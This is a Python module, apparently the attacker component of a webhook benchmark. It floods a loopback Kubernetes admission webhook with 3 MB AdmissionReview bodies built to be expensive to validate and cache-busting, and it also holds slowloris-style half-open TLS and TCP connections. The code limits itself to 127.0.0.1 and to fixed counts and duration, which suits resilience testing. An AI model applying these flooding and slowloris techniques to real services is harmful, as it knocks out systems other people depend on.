"""The attacker in ``benchmarks.webhook_bench``'s attack run: a bounded flood of a loopback webhook.

Run by the benchmark as its own process (so its TLS and JSON work does not share the event loop
that measures the normal reviews): ``python -m benchmarks.webhook_attack --port P --ca FILE
--seconds 30 --parallel 8 --half-open 200``. It prints one JSON line of counts at the end.

Two attacks at once, both stopping by themselves at ``--seconds`` and bounded in count:

- ``--parallel`` loops, each sending one ~3 MB AdmissionReview after another, as fast as the
  answers come: a JobFlow within every size limit whose validation costs seconds of CPU (230
  distinct ``when`` expressions near the length limit; a fresh tag per request defeats the
  expression cache), padded to 3 MB in an ``oldObject`` the handler must still decode;
- ``--half-open`` connections held open without ever completing a request: half of them plain
  TCP that never start TLS, half TLS that trickle header bytes (one every second, slowloris);
  each one closed by the server is opened again.

Only 127.0.0.1 is ever contacted. ``--nice N`` lowers the attacker's own CPU priority: on a
machine the webhook shares with it, building and encrypting 3 MB bodies otherwise takes CPU the
webhook would have in a cluster, where that work is done by the API server and the attacker's
machine. The JSON line ends with the attacker's CPU seconds (``cpu_s``).
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import ssl
import time
from collections import Counter
from typing import Any

import aiohttp

HOST = "127.0.0.1"
BODY_BYTES = 3 * 1024 * 1024 - 64 * 1024  # just under the webhook's 3 MiB limit
MAX_REQUESTS = 10_000
MAX_CONNECTS = 200_000
_CLAUSE = "(params.p == 'x' || steps.s0.phase != 'Failed')"


def expensive_review(tag: str) -> bytes:
    base = " && ".join([_CLAUSE] * 20)[:820]  # with the tags, each stays under 1024 characters
    base = base[: base.rfind(" &&")]
    steps: list[dict[str, Any]] = [{"name": "s0", "run": {"image": "busybox"}}]
    steps += [
        {
            "name": f"s{i}",
            "dependencies": ["s0"],
            "when": base.replace("'x'", f"'x{tag}-{i}'"),
            "run": {"image": "busybox"},
        }
        for i in range(1, 230)
    ]
    flow = {
        "apiVersion": "workflow.zen.io/v1alpha1",
        "kind": "JobFlow",
        "metadata": {"name": f"attack-{tag}"},
        "spec": {"params": [{"name": "p", "default": "x"}], "steps": steps},
    }
    request = {
        "uid": f"attack-{tag}",
        "kind": {"group": "workflow.zen.io", "version": "v1alpha1", "kind": "JobFlow"},
        "resource": {"group": "workflow.zen.io", "version": "v1alpha1", "resource": "jobflows"},
        "operation": "CREATE",
        "namespace": "bench",
        "userInfo": {"username": "mallory", "groups": ["system:authenticated"]},
        "object": flow,
        "oldObject": {"pad": ""},
    }
    review = {"kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1", "request": request}
    body = json.dumps(review).encode()
    pad = BODY_BYTES - len(body)
    return body.replace(b'"pad": ""', b'"pad": "' + b"x" * max(pad, 0) + b'"', 1)


async def big_reviews(
    url: str, ctx: ssl.SSLContext, *, worker: int, until: float, counts: Counter[str]
) -> None:
    timeout = aiohttp.ClientTimeout(total=30)
    async with aiohttp.ClientSession(
        connector=aiohttp.TCPConnector(ssl=ctx, limit=1), timeout=timeout
    ) as session:
        n = 0
        while time.monotonic() < until and counts["big_sent"] < MAX_REQUESTS:
            n += 1
            body = expensive_review(f"{worker}{n:x}")
            counts["big_sent"] += 1
            try:
                async with session.post(
                    url, data=body, headers={"Content-Type": "application/json"}
                ) as resp:
                    doc = await resp.json(content_type=None)
            except (aiohttp.ClientError, TimeoutError) as exc:
                counts[f"big_error:{type(exc).__name__}"] += 1
                continue
            response = doc.get("response") or {}
            code = (response.get("status") or {}).get("code", resp.status)
            verdict = "allowed" if response.get("allowed") else "denied"
            counts[f"big_http{resp.status}_{verdict}_{code}"] += 1


async def half_open(
    port: int, ctx: ssl.SSLContext, *, index: int, until: float, counts: Counter[str]
) -> None:
    tls = index % 2 == 1
    while time.monotonic() < until and counts["half_open_connects"] < MAX_CONNECTS:
        counts["half_open_connects"] += 1
        try:
            reader, writer = await asyncio.open_connection(HOST, port, ssl=ctx if tls else None)
        except (OSError, ssl.SSLError, TimeoutError) as exc:
            counts[f"half_open_connect_error:{type(exc).__name__}"] += 1
            await asyncio.sleep(0.5)
            continue
        try:
            if tls:
                writer.write(b"POST /validate HTTP/1.1\r\nHost: webhook\r\n")
            while time.monotonic() < until:
                if tls:
                    writer.write(b"X")  # one more header byte, never a full line
                    await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1024), 1.0)
                except TimeoutError:
                    continue
                if not data:
                    counts["half_open_closed_by_server"] += 1
                    break
        except (OSError, ssl.SSLError) as exc:
            counts[f"half_open_closed_by_server:{type(exc).__name__}"] += 1
        finally:
            writer.close()


async def attack(port: int, ca: str, seconds: float, parallel: int, holders: int) -> dict[str, Any]:
    ctx = ssl.create_default_context(cafile=ca)
    url = f"https://{HOST}:{port}/validate"
    until = time.monotonic() + seconds
    counts: Counter[str] = Counter()
    tasks = [
        *(big_reviews(url, ctx, worker=i, until=until, counts=counts) for i in range(parallel)),
        *(half_open(port, ctx, index=i, until=until, counts=counts) for i in range(holders)),
    ]
    await asyncio.gather(*tasks)
    return dict(sorted(counts.items()))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--ca", required=True, help="CA bundle the webhook's certificate is from")
    parser.add_argument("--seconds", type=float, default=30.0)
    parser.add_argument("--parallel", type=int, default=8)
    parser.add_argument("--half-open", type=int, default=200)
    parser.add_argument("--nice", type=int, default=0, help="lower the attacker's CPU priority")
    args = parser.parse_args()
    if args.nice > 0:
        os.nice(args.nice)
    seconds = min(args.seconds, 300.0)  # bounded whatever the flags say
    figures = asyncio.run(attack(args.port, args.ca, seconds, args.parallel, args.half_open))
    print(json.dumps({**figures, "cpu_s": round(time.process_time(), 1)}))


if __name__ == "__main__":
    main()
